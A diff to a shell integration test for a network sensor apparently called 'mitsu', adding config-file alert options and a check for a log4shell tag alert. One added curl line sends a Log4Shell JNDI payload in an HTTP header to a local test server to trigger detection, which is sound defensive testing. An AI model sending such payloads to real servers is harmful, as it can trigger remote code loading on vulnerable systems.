@@ -26,12 +26,20 @@ i=0
 while [ $i -lt 100 ] && [ ! -e "$RX/ready" ]; do sleep 0.1; i=$((i + 1)); done
 check "receivers up" [ -e "$RX/ready" ] || { cat "$WORK/rx.log"; exit 1; }
 
+# half the alert options from the config file (values with '=' and ',')
+cat >"$WORK/mitsu.conf" <<EOC
+alert-on any
+alert-on tags:log4shell
+alert-window = 10
+syslog udp://127.0.0.1:15514
+email smtp://127.0.0.1:12525,from=mitsu@test.invalid,to=soc@test.invalid
+EOC
+chmod 644 "$WORK/mitsu.conf"
 ip netns exec "$SNS" "$MITSU" run -i "$SIF" --store "$WORK/store" --stats-interval 0 --idle 2 --scans-rotate 2 \
-	--alert-on any --alert-window 10 --alert-ignore "$CADDR6" \
+	--config "$WORK/mitsu.conf" --alert-ignore "$CADDR6" \
 	--webhook http://127.0.0.1:18080/hook --webhook http://127.0.0.1:18081/hook,json \
 	--webhook http://127.0.0.1:1/dead,slack \
-	--syslog udp://127.0.0.1:15514 --syslog tcp://127.0.0.1:15515,facility=local0 \
-	--email smtp://127.0.0.1:12525,from=mitsu@test.invalid,to=soc@test.invalid \
+	--syslog tcp://127.0.0.1:15515,facility=local0 \
 	--exec "$WORK/exec_sink.sh,$WORK/exec.jsonl" --exec /bin/sleep,30 \
 	--alert-timeout 2 --alert-retries 3 >"$WORK/run.log" 2>&1 &
 SENSOR_PID=$!
@@ -87,8 +95,8 @@ check "dead webhook reported (retried, gave up)" grep -q 'webhook:http://127.0.0
 check "hanging exec killed by the timeout and reported" grep -q 'exec:/bin/sleep: attempt .* killed after 2 s' "$WORK/run.log"
 check "the dead webhook's path is not logged" sh -c "! grep -q '127.0.0.1:1/dead' '$WORK/run.log'"
 
-# capture and analysis go on while two channels keep failing
-cns curl -s -m 2 "http://$SADDR:8080/after-alerts" -o /dev/null
+# capture and analysis go on while two channels keep failing; --alert-on tags
+cns curl -s -m 2 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/a}' "http://$SADDR:8080/after-alerts" -o /dev/null
 n=0
 i=0
 while [ $i -lt 80 ]; do
@@ -98,6 +106,10 @@ while [ $i -lt 80 ]; do
 	i=$((i + 1))
 done
 check "capture and analysis continue (record after the alerts)" [ "$n" = 1 ]
+i=0
+while [ $i -lt 50 ] && ! grep -q '"kind":"tag"' "$RX/web.jsonl"; do sleep 0.1; i=$((i + 1)); done
+check "--alert-on tags:log4shell: one tag alert" \
+	sh -c "[ \$(grep -c '\"kind\":\"tag\".*\"src_addr\":\"$CADDR\".*\"dst_port\":8080.*\"tag\":\"log4shell\"' '$RX/web.jsonl') -eq 1 ]"
 t0=$(date +%s)
 stop_sensor
 t1=$(date +%s)
@@ -107,7 +119,9 @@ check "the ignored source's flows were captured ($v6)" [ "${v6:-0}" -ge 40 ]
 a4=$("$MITSU" sql --db "$DB" "select count(*) from alerts where kind = 'contact' and src_addr = '$CADDR' and summary like '%port scan%'" | tail -1)
 a6=$("$MITSU" sql --db "$DB" "select count(*) from alerts where src_addr = '$CADDR6'" | tail -1)
 check "SQLite: one port-scan alert for $CADDR ($a4), none for $CADDR6 ($a6)" sh -c "[ '$a4' -eq 1 ] && [ '$a6' -eq 0 ]"
-check "counters logged" grep -q 'alerts: [0-9]* raised, [0-9]* contacts, [1-9][0-9]* ignored, 2 stored' "$WORK/run.log"
+check "counters logged" grep -q 'alerts: [0-9]* raised, [0-9]* contacts, [1-9][0-9]* ignored, 3 stored' "$WORK/run.log"
+t=$("$MITSU" query --db "$DB" --alerts --csv 'filter kind = "tag" | fields tag, dst_port' | tail -1 | tr -d '\r')
+check "mitsu query --alerts finds the tag alert ($t)" [ "$t" = "log4shell,8080" ]
 kill "$RX_PID" 2>/dev/null
 wait "$RX_PID" 2>/dev/null
 exit 0
